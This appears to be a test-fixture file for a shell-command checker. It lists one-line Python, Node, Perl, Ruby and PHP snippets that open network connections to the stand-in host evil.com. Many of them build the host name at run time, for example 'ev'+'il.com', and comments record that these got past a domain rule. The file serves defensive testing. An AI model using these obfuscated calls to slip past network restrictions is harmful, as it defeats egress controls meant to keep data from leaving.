// Inline code that reaches a host made at run time, or calls a network module with a run-time
// value: rows of test/shell-inline-code.test.ts's problem table, and inputs of the network-reading
// differential test (test/shell-inline-network.test.ts).
import type { Language } from '../../src/shell/inline-code-names.js';

type Row = readonly [Language, string];

/** A network call whose host is made at run time (was allowed beside Domain(evil.com)). */
export const RUNTIME_HOST_CALLS: readonly Row[] = [
    ['python', "import socket; h='ev'+'il.com'; socket.create_connection((h, 80))"], ['python', "import urllib.request as u; u.urlopen('https://' + 'evil.com')"],
    ['python', "import requests; requests.get(f'https://{h}')"], ['python', 'import socket; s = socket.socket(); s.connect((h, 80))'],
    ['python', "import socket; socket.gethostbyname('ev' + 'il.com')"], ['node', "fetch('https://' + 'evil.com')"], ['node', 'fetch(`https://${h}`)'],
    ['node', 'fetch(process.env.U)'], ['node', "require('dns').lookup('ev' + 'il.com', () => {})"], ['node', "require('net').connect({host: h, port: 80})"],
    ['perl', 'IO::Socket::INET->new(PeerAddr => "ev" . "il.com:80")'], ['ruby', 'TCPSocket.new(h, 80)'], ['php', 'fsockopen($h, 80);'],
];

/** Any call given a run-time value, in code that names a network module (hunt 4, F7: each reached the host it built). */
export const NETWORK_MODULE_CALLS: readonly Row[] = [
    ['python', "import ftplib; ftplib.FTP('ev'+'il.com')"], ['python', "import smtplib; smtplib.SMTP('ev'+'il.com')"],
    ['python', "import asyncio; asyncio.run(asyncio.open_connection('ev'+'il.com', 80))"], ['python', "import xmlrpc.client as x; x.ServerProxy(u).f()"],
    ['python', 'import http.client as c; c.HTTPConnection(h)'], ['python', 'import telnetlib; telnetlib.Telnet(h)'], ['python', 'import poplib; poplib.POP3(h)'],
    ['python', 'import imaplib; imaplib.IMAP4_SSL(h)'], ['python', "import urllib3; urllib3.PoolManager().request('GET', u)"], ['python', 'import httpx; httpx.Client().get(u)'],
    ['python', 'import aiohttp; aiohttp.ClientSession().get(u)'], ['python', 'import requests; s = requests.Session(); s.get(u)'],
    ['perl', 'use Net::FTP; Net::FTP->new($h)'], ['perl', 'use HTTP::Tiny; HTTP::Tiny->new->get($u)'], ['ruby', 'require "open-uri"; URI.open(u)'],
    ['node', "require('http').get(u)"], ['node', "require('https').request(u)"], ['node', "new (require('net').Socket)().connect(80, h)"],
    ['node', "require('tls').connect(443, h)"], ['node', "require('dgram').createSocket('udp4').send(m, 53, h)"], ['node', "require('undici').request(u)"],
    ['node', "require('axios')(u)"],
];
